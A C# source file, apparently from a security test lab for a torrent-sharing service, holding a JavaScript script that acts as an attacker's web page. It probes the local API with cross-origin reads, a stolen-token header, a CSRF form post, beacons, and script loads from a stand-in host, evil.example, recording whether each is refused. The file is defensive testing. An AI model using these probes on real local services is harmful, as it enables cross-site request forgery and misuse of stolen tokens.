namespace Swarm.Lab.Scenarios;

/// <summary>What an attacker's page tries on a port, with all that pages have: a JavaScript function of (base, changes, token) that says what came of each.</summary>
internal static class PageAttackScript
{
    /// <summary>Where the form and the beacon go.</summary>
    public const string FormPath = "/api/v1/torrents";

    public const string Text = """
        async (base, changes, token) => {
          const limited = promise => Promise.race([promise, new Promise(r => setTimeout(() => r('no answer'), 30000))]);
          const read = (path, options) => limited(fetch(base + path, options).then(async a => a.type === 'opaque' ? 'opaque' : `${a.status} ${await a.text()}`, () => 'refused'));
          const load = (tag, attribute, path, more = {}) => limited(new Promise(r => {
            const e = Object.assign(document.createElement(tag), more);
            e.onload = e.onloadeddata = () => r('loaded');
            e.onerror = () => r('refused');
            e[attribute] = base + path;
            document.body.append(e);
          }));
          const stolen = { Authorization: 'Bearer ' + token };
          const out = {};
          for (const path of ['status', 'peers', 'torrents', 'resources', 'receipts', 'tcp']) {
            out[path] = await read('/api/v1/' + path);
            out[path + ' blindly'] = await read('/api/v1/' + path, { mode: 'no-cors' });
            out[path + ' with the stolen token'] = await read('/api/v1/' + path, { headers: stolen });
          }
          for (const { name, method, path, type, body } of changes) {
            const headers = { 'X-Swarm': '1', 'Content-Type': type };
            out[name] = await read(path, { method, headers, body });
            out[name + ' with the stolen token'] = await read(path, { method, headers: { ...headers, ...stolen }, body });
            if (method === 'POST') out[name + ' blindly'] = await read(path, { method, mode: 'no-cors', body });
          }
          out.open = await read('/healthz');
          out.metrics = await read('/metrics');
          out.token = await read('/api/v1/status', { headers: { Authorization: 'Bearer ' + 'A'.repeat(43) } });
          out.gateway = await read('/gateway/https/bank.example/account');
          out.guess = await read('/gateway/~' + 'A'.repeat(43) + '/https/bank.example/account');
          out.file = await read('/torrents/' + 'a'.repeat(40));
          out.beacon = navigator.sendBeacon(base + '/api/v1/torrents', 'magnet:') ? 'sent' : 'refused';
          out.form = await limited(new Promise(r => {
            const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() });
            const form = Object.assign(document.createElement('form'), { method: 'POST', action: base + '/api/v1/torrents', enctype: 'text/plain', target: frame.name });
            form.append(Object.assign(document.createElement('input'), { name: 'd', value: 'x' }));
            document.body.append(frame, form);
            // Its first page is an empty one, and has loaded by now: what comes next is the answer to the form.
            frame.onload = () => { try { r(frame.contentDocument === null ? 'opaque' : frame.contentDocument.body.textContent ? 'read' : 'refused') } catch { r('opaque') } };
            form.submit();
          }));
          delete window.leaked;
          out.script = await load('script', 'src', '/api/v1/status');
          out.script = window.leaked ?? (out.script === 'loaded' ? 'loaded' : 'refused');
          out.gatewayScript = await load('script', 'src', '/gateway/http/evil.example/a.js');
          out.image = await load('img', 'src', '/metrics');
          out.video = await load('video', 'src', '/gateway/http/evil.example/film.mp4');
          out.style = await load('link', 'href', '/', { rel: 'stylesheet' });
          out.socket = await limited(new Promise(r => { const s = new WebSocket(base.replace('http', 'ws') + '/api/v1/events'); s.onopen = () => r('opened'); s.onerror = () => r('refused'); }));
          out.events = await limited(new Promise(r => { const s = new EventSource(base + '/api/v1/events'); s.onmessage = s.onopen = () => { s.close(); r('opened'); }; s.onerror = () => { s.close(); r('refused'); }; }));
          return JSON.stringify(out);
        }
        """;
}
